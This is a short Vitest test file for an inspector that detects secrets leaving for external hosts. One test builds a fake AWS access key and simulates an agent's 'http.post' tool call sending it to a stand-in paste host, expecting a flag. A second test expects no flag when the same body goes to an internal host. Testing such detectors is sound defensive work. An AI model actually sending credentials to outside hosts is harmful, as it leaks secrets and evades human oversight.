/** exfiltration: secrets and personal data leaving for an external destination. */
import { describe, expect, it } from 'vitest';
import { exfiltrationInspector as insp } from '../../src/pipeline/inspect/inspectors/exfiltration.js';
import { ids, runOn } from './inspect-helpers.js';

const key = ['AKIA', 'Z7QW3RTY5UIO2PAS'].join('');

describe('exfiltration', () => {
  it('flags a cloud key sent to an external host', () => {
    const f = runOn(insp, {
      action: { tool: 'http.post', arguments: { body: `aws_access_key_id=${key}` } },
      resource: { host: 'paste.example.net', external: true },
    });
    expect(ids(f)).toContain('exfiltration.secret-to-external');
  });
  it('passes the same body to an internal host', () => {
    const f = runOn(insp, {
      action: { tool: 'http.post', arguments: { body: `aws_access_key_id=${key}` } },
      resource: { host: 'vault.tools.svc.cluster.local', external: false, recipients: [] },
    });
    expect(f).toEqual([]);
  });
});
